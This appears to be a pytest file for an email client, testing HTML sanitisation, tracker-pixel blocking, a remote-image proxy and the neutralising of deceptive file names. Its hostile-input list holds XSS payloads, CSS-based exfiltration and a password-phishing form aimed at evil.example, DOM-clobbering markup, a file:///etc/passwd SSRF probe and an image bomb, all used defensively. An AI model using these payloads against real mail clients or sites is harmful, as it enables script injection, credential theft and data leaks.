"""Mail as a page: hostile HTML stays in its box, remote images come by our proxy, trackers never, names show what they are."""

from __future__ import annotations

import gzip
import struct
import time
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from aiohttp import web

from inbox import html, remote_images
from inbox.api.images import signed
from inbox.fit import file_name, unmasked
from inbox.store.messages import File

REMOTE = '<p>Hi <img src="https://pics.example/cat.png" alt="cat" width="300"> there</p>'


def png(width: int = 3, height: int = 3) -> bytes:
    """A small picture that says it is so large."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * min(width, 3) for _ in range(min(height, 3)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


@pytest.mark.parametrize(("image", "is_tracker"), [
    ('<img src="https://a.example/x.png">', False),
    ('<img src="https://a.example/x.png" width="600" height="2000">', False),
    ('<img src="https://a.example/x.png" width="1" height="1">', True),
    ('<img src="https://a.example/x.png" width="0">', True),
    ('<img src="https://a.example/x.png" height="2px">', True),
    ('<img src="https://a.example/x.png" style="display:none">', True),
    ('<img src="https://a.example/x.png" style="width:1px; color:red">', True),
    ('<img src="https://x.list-manage.com/track/open.php?u=1">', True),
    ('<img src="https://u1.ct.sendgrid.net/wf/open?upn=x">', True),
    ('<img src="https://a.example/pixel.gif?id=1">', True),
    ('<img src="https://a.example/open.php?m=1">', True),
    ('<img src="https://a.example/opening-hours.png">', False),
    ('<img src="https://a.example/x?u=1&amp;quot=&quot;&gt;">', False),
])
def test_which_images_are_trackers(image: str, is_tracker: bool) -> None:
    clean = html.clean(image)
    assert remote_images.count(clean) == ((0, 1) if is_tracker else (1, 0)), clean
    made = remote_images.shown(clean, lambda source: "/ours?" + quote(source, safe=""))
    assert ("<img" not in made) if is_tracker else ('src="/ours?https%3A%2F%2Fa.example' in made and "data-src" not in made)
    assert "a.example/" not in remote_images.shown(clean, None)


@pytest.mark.parametrize(("data", "found"), [
    (png(7, 9), ("image/png", 7, 9)),
    (b"GIF89a\x05\x00\x06\x00\x00\x00\x00", ("image/gif", 5, 6)),
    (b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08\x00\x10\x00\x20\x03\x00\x00\x00\x00", ("image/jpeg", 32, 16)),
    (b"RIFF\x00\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\x09\x00\x00\x13\x00\x00", ("image/webp", 10, 20)),
    (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", None),
    (b"<!doctype html><script>", None), (b"", None), (b"\xff\xd8\xff", None), (b"RIFF0000WEBPVP8 ", None), (b"%PDF-1.7", None),
])
def test_a_picture_is_known_by_its_own_bytes(data: bytes, found: Any) -> None:
    assert remote_images.picture(data) == found


@pytest.mark.parametrize(("name", "shown"), [
    ("annex\u202egpj.exe", "annexgpj.exe"), ("invoice.pdf" + " " * 60 + ".exe", "invoice.pdf .exe"), ("a\u200b.pdf", "a.pdf"),
    ("گزارش\u200cها.pdf", "گزارش\u200cها.pdf"), ("\u2066x\u2069\u061c.txt", "x.txt"), ("a\n\tb.txt", "a b.txt"),
])
def test_names_of_files_show_what_they_are(name: str, shown: str) -> None:
    assert file_name(name) == shown
    long = file_name("x" * 400 + ".exe")
    assert len(long) <= 255 and long.endswith("….exe")
    assert unmasked("Ann \u202ekcab") == "Ann kcab"


HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<div style="position:fixed;inset:0;z-index:9">x</div>',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
    '<svg onload="alert(1)"><image href="https://evil.example/x"/></svg>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a id="documentElement" name="location">x</a><form id="attributes"></form>', '<img srcset="https://evil.example/x 2x">',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
    "<style>@import url(https://evil.example/);input[value^=a]{background:url(https://evil.example/a)}</style>",
    '<p style="background:url(https://evil.example/x);color:red;list-style:url(//evil.example/y)">x</p>',
    '<p style="background:u\\72l(https://evil.example/x)">x</p>', '<p style="color:red;width:ur/**/l(https://evil.example)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><object data="https://evil.example"></object><embed src="//evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><video poster="//evil.example/p"></video>',
)


def test_hostile_mail_stays_in_its_box(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        _, message = await desk.said("text", html=html.clean("".join(HOSTILE) + "<p>end</p>"), full_text="full")
        path = f"{desk.url}/api/v1/messages/{message}/html"
        async with desk.http.get(path, headers={"Authorization": f"Bearer {desk.admin}"}) as answer:
            page, policy = await answer.text(), answer.headers["Content-Security-Policy"]
        assert "script-src" not in policy and "default-src 'none'" in policy and "sandbox allow-same-origin" in policy
        assert "allow-scripts" not in policy and "form-action 'none'" in policy and "base-uri 'none'" in policy
        body = page.partition("<body")[2]
        assert "end</p>" in body
        for word in ("<script", "onerror", "onload", "position", "<form", "<input", "<meta", "<base", "<svg", "<math", "srcset",
                     "background", "evil.example", "<style", "<link", "<object", "<embed", "<iframe", "<video", ' id="', ' name="',
                     "javascript:", "url("):
            assert word not in body.lower(), word
        assert "color:red" in body
    serve(run)


def test_five_megabytes_of_nested_tables_are_shown_as_text(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        deep = "<table><tr><td>" * (5 * 1024 * 1024 // 15)
        assert html.clean(deep) == ""
        _, message = await desk.said("the words", html=html.clean(deep))
        assert "<pre>the words</pre>" in await desk("GET", f"/messages/{message}/html")
    serve(run)


def test_the_page_of_a_message(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        _, message = await desk.said("see https://x.example/a(b), <b> & \u202e", subject="<S>", html=html.clean(REMOTE))
        path = f"/messages/{message}/html"
        page = await desk("GET", path)
        assert '<body dir="auto">' in page and 'content="light"' in page and "&lt;S&gt;" in page and "unicode-bidi:plaintext" in page
        assert "pics.example" not in page and 'class="blocked"' in page and 'alt="cat"' in page
        plain = await desk("GET", f"{path}?plain=1")
        assert '<a href="https://x.example/a(b)"' in plain and "&lt;b&gt; &amp;" in plain and 'content="light dark"' in plain
        original = await desk("GET", f"{path}?original=1")
        assert "system-ui" not in original and "max-width:100%" in original
        _, dark = await desk.said("x", html="<p>x</p>", flags=("dark",))
        assert 'content="light dark"' in await desk("GET", f"/messages/{dark}/html")
        assert 'content="dark"' in await desk("GET", f"/messages/{dark}/html?theme=dark")
        assert 'content="light"' in await desk("GET", f"{path}?theme=dark"), "a mail that was not made for the dark stays on white"
        shown = await desk("GET", f"/messages/{message}")
        assert shown["remote_images"] == 1
        await desk("GET", f"{path}?images=maybe", status=422)
    serve(run)


@pytest.mark.parametrize(("raw", "dark"), [
    ('<meta name="color-scheme" content="light dark"><p>x</p>', True),
    ("<style>:root { color-scheme: light dark; }</style><p>x</p>", True),
    ('<meta name="color-scheme" content="light"><p>x</p>', False), ("<p>dark</p>", False),
    ('<head><meta name="color-scheme" content="light dark"></head><body><p style="color:#000">x</p>', False),
    ('<meta name="supported-color-schemes" content="light dark"><body><table><tr><td bgcolor="#fff">x</td></tr></table>', False),
])
def test_a_dark_ground_only_where_the_mail_was_made_for_it(raw: str, dark: bool) -> None:
    assert html.for_dark(raw, html.clean(raw)) is dark


@pytest.mark.parametrize("raw", ["<meta " * 300_000, "<meta color-scheme " * 100_000, "color-scheme:" * 150_000, "color-scheme " * 150_000,
                                 '<img alt="' * 200_000, "<img " * 400_000, 'style="' * 250_000])
def test_no_mail_takes_long_to_look_at(raw: str) -> None:
    began = time.process_time()
    assert html.for_dark(raw, raw) is False
    assert remote_images.count(raw + ' data-src="') == (0, 0) and remote_images.shown(raw + ' data-src="', None)
    assert time.process_time() - began < 20, "it grows with the square of the length"


def test_an_image_with_a_sign_in_its_name_is_shown() -> None:
    clean = html.clean('<img alt="a > b" title="<i>" src="https://a.example/x.png?a=1&b=2">')
    assert remote_images.count(clean) == (1, 0)
    assert 'src="/ours?https://a.example/x.png?a=1&amp;b=2"' in remote_images.shown(clean, lambda source: "/ours?" + source)


class Elsewhere:
    """Another site: what it is asked, and what it answers."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.headers: list[Any] = []
        self.url = ""

    async def answer(self, request: web.Request) -> web.StreamResponse:
        """A picture, or what an attacker would rather send."""
        self.asked.append(request.path)
        self.headers.append(request.headers)
        match request.path:
            case "/cat.png":
                return web.Response(body=png(), content_type="text/html")
            case "/evil.svg":
                return web.Response(body=b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", content_type="image/png")
            case "/packed.png":
                return web.Response(body=gzip.compress(png()), headers={"Content-Encoding": "gzip"})
            case "/large.png":
                return web.Response(body=png() + b"\0" * (5 * 1024 * 1024))
            case "/bomb.png":
                return web.Response(body=png(60_000, 60_000))
            case "/inside":
                raise web.HTTPFound("http://127.0.0.2:1/cat.png")
            case "/round":
                raise web.HTTPFound("/round")
            case "/on":
                raise web.HTTPFound("/cat.png")
        raise web.HTTPNotFound

    async def start(self) -> web.AppRunner:
        """Listens on a free port."""
        app = web.Application()
        app.router.add_get("/{tail:.*}", self.answer)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        return runner


def test_remote_images_come_by_our_proxy(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        there = Elsewhere()
        runner = await there.start()
        try:
            raw = f'<img src="{there.url}/cat.png"><img src="{there.url}/open.gif" width="1"><img src="{there.url}/on">'
            home, message = await desk.said("x", html=html.clean(raw))
            path = f"/messages/{message}/html"
            assert there.url not in await desk("GET", path)
            page = await desk("GET", f"{path}?images=1")
            sources = [part.partition('"')[0].replace("&amp;", "&") for part in page.split('src="')[1:]]
            assert len(sources) == 2 and all(source.startswith("/api/v1/messages/") for source in sources)
            for source in (*sources, sources[0]):
                async with desk.http.get(desk.url + source, headers={"Authorization": f"Bearer {desk.admin}", "Cookie": "a=b"}) as answer:
                    assert answer.status == 200 and answer.content_type == "image/png" and await answer.read() == png()
                    assert answer.headers["X-Content-Type-Options"] == "nosniff" and "sandbox" in answer.headers["Content-Security-Policy"]
            assert there.asked == ["/cat.png", "/on", "/cat.png"], "the second time it comes from memory; trackers are never asked"
            assert not {"Cookie", "Referer", "Authorization"} & set(there.headers[0])
            for bad in ("/evil.svg", "/packed.png", "/large.png", "/bomb.png", "/inside", "/round", "/none"):
                await desk("GET", signed(desk.app, message, there.url + bad), status=404)
            for bad in ("http://127.0.0.2:1/x.png", "ftp://x.example/a", "file:///etc/passwd", "http://u:p@x.example/", "http://[::1]:1/a"):
                await desk("GET", signed(desk.app, message, bad), status=404)
            await desk("GET", sources[0], token=None, status=401)
            await desk("GET", sources[0][:-3] + "aaa", status=403)
            await desk("GET", sources[0].replace("cat.png", "dog.png"), status=403)
            other, elsewhere = await desk.said("y", html=html.clean(raw))
            await desk("GET", sources[0].replace(f"/messages/{message}/", f"/messages/{elsewhere}/"), status=403)
            contact = (await desk("GET", f"/conversations/{home}"))["contact"]["id"]
            await desk("PATCH", f"/contacts/{contact}", json={"show_images": True})
            assert "/image?src=" in await desk("GET", path) and "/image?src=" not in await desk("GET", f"{path}?images=0")
            _, forged = await desk.said("z", html=html.clean(raw), flags=("auth_fail",))
            assert "/image?src=" not in await desk("GET", f"/messages/{forged}/html")
            secret, hidden = await desk.said("s", channel="secret", who="spy", html=html.clean(raw))
            await desk("GET", signed(desk.app, hidden, f"{there.url}/cat.png"), token="agent", status=404)
            assert other and secret
        finally:
            await runner.cleanup()
    serve(run, egress_allow=["127.0.0.1/32"])


def test_private_addresses_are_not_fetched(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        there = Elsewhere()
        runner = await there.start()
        try:
            _, message = await desk.said("x")
            await desk("GET", signed(desk.app, message, f"{there.url}/cat.png"), status=404)
            assert there.asked == []
        finally:
            await runner.cleanup()
    serve(run)


def test_names_that_turn_the_line_round_are_neutralised(serve: Callable[..., None]) -> None:
    async def run(desk: Any) -> None:
        files = [File(name="annex\u202egpj.exe", media_type="image/jpeg", size=1, sha="")]
        home, message = await desk.said("x", who="evil\u202e", files=files)
        shown = await desk("GET", f"/messages/{message}")
        assert shown["attachments"][0]["name"] == "annexgpj.exe" and "\u202e" not in shown["author"]["name"] + shown["from"]["name"]
        assert "\u202e" not in (await desk("GET", f"/conversations/{home}"))["contact"]["name"]
    serve(run)
